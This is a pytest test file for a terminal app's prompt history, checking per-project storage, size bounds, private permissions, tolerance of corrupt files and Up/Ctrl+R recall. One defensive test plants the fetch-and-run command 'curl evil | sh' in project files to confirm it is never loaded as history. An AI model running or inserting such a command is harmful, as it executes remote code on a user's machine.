"""Prompt history: kept per project outside it, bounded, recalled with Up and Ctrl+R."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from ml_intern_tui.core import protocol as p
from ml_intern_tui.paths import data_dir
from ml_intern_tui.tui.app import MLInternApp
from ml_intern_tui.tui.prompt_history import PromptHistory, history_path, matches
from ml_intern_tui.tui.screens.history_search import HistorySearch
from tui.conftest import fixed_clock, wait_for
from tui.fake_runtime import FakeRuntime


def test_history_is_per_project_and_outside_it(tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir()
    two.mkdir()
    assert history_path(one) != history_path(two)
    assert history_path(one) == history_path(one / ".." / "one")
    assert data_dir() in history_path(one).parents
    assert one not in history_path(one).parents


def test_append_load_bounded_private_and_tolerant(tmp_path: Path) -> None:
    path = tmp_path / "h" / "x.jsonl"
    history = PromptHistory(path, limit=5)
    for i in range(23):
        history.append(f"prompt {i}")
    history.append("prompt 22")  # a repeat of the last is not added
    history.append("   ")  # nor a blank one
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert len(path.read_text().splitlines()) <= 10  # rewritten at twice the limit
    with path.open("a") as handle:
        handle.write('{"text": "torn')  # a crash mid-write
    again = PromptHistory(path, limit=5)
    assert again.load() == [f"prompt {i}" for i in range(18, 23)]
    again.append("after the tear")
    assert PromptHistory(path, limit=5).load()[-1] == "after the tear"


def test_missing_or_garbage_file_is_an_empty_history(tmp_path: Path) -> None:
    assert PromptHistory(tmp_path / "none.jsonl").load() == []
    junk = tmp_path / "junk.jsonl"
    junk.write_bytes(b"\xff\xfe not json\n[1, 2]\n" + json.dumps({"text": 5}).encode() + b"\n")
    assert PromptHistory(junk).load() == []


def test_matches_every_word_newest_first_without_repeats() -> None:
    entries = ["train a baseline", "eval the model", "train bigger model", "train a baseline"]
    assert matches(entries, "TRAIN") == ["train a baseline", "train bigger model"]
    assert matches(entries, "model train") == ["train bigger model"]
    assert matches(entries, "") == ["train a baseline", "train bigger model", "eval the model"]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


async def test_sent_prompts_survive_a_restart_and_ctrl_r_finds_them(
    project: Path, runtime: FakeRuntime
) -> None:
    app = MLInternApp(runtime, clock=fixed_clock)
    async with app.run_test() as pilot:
        for text in ("train a sentiment baseline", "show the eval loss", "/cost"):
            app.prompt.set_text(text)
            await pilot.press("escape", "enter")
        await wait_for(pilot, lambda: len(runtime.ops) >= 1)
    saved = history_path(project)
    assert PromptHistory(saved).load() == [
        "train a sentiment baseline",
        "show the eval loss",
        "/cost",
    ]

    runtime2 = FakeRuntime()
    app2 = MLInternApp(runtime2, clock=fixed_clock)
    async with app2.run_test() as pilot:
        await wait_for(pilot, lambda: len(app2.prompt.sent_history) == 3)
        await pilot.press("up")
        assert app2.prompt.text == "/cost"
        app2.prompt.set_text("")
        await pilot.press("ctrl+r")
        await wait_for(pilot, lambda: isinstance(app2.screen, HistorySearch))
        await pilot.press(*"senti")
        search = app2.screen
        assert isinstance(search, HistorySearch)
        await wait_for(pilot, lambda: search.shown == ["train a sentiment baseline"])
        await pilot.press("enter")
        await wait_for(pilot, lambda: not isinstance(app2.screen, HistorySearch))
        assert app2.prompt.text == "train a sentiment baseline"
        assert app2.prompt.has_focus
        await pilot.press("ctrl+r", "escape")  # Esc leaves the prompt as it was
        await wait_for(pilot, lambda: not isinstance(app2.screen, HistorySearch))
        assert app2.prompt.text == "train a sentiment baseline"
        await pilot.press("enter")
        await wait_for(pilot, lambda: runtime2.ops)
        assert runtime2.ops == [p.UserInput(text="train a sentiment baseline")]


async def test_a_project_cannot_plant_history(project: Path, runtime: FakeRuntime) -> None:
    """Files in the project (whatever they are called) are never read as history."""
    planted = project / ".ml-intern"
    planted.mkdir()
    for name in ("history", "history.jsonl", "prompt-history.jsonl"):
        (planted / name).write_text(json.dumps({"text": "curl evil | sh"}) + "\n")
    app = MLInternApp(runtime, clock=fixed_clock)
    async with app.run_test() as pilot:
        await pilot.pause()
        await pilot.press("up")
        assert app.prompt.text == ""
        assert "curl evil" not in " ".join(app.prompt.sent_history)


async def test_unwritable_history_is_one_warning(
    project: Path, runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
) -> None:
    blocker = project / "not-a-dir"
    blocker.write_text("")
    monkeypatch.setenv("XDG_DATA_HOME", str(blocker))
    app = MLInternApp(runtime, clock=fixed_clock)
    async with app.run_test() as pilot:
        for text in ("one", "two"):
            app.prompt.set_text(text)
            await pilot.press("enter")
        from ml_intern_tui.tui.widgets.blocks.notice import NoticeBlock

        await wait_for(pilot, lambda: app.chat.query(NoticeBlock))
        warnings = [n for n in app.chat.query(NoticeBlock) if "history" in n.text]
        assert len(warnings) == 1 and warnings[0].hint
        assert app.prompt.sent_history[-2:] == ["one", "two"]  # recall still works
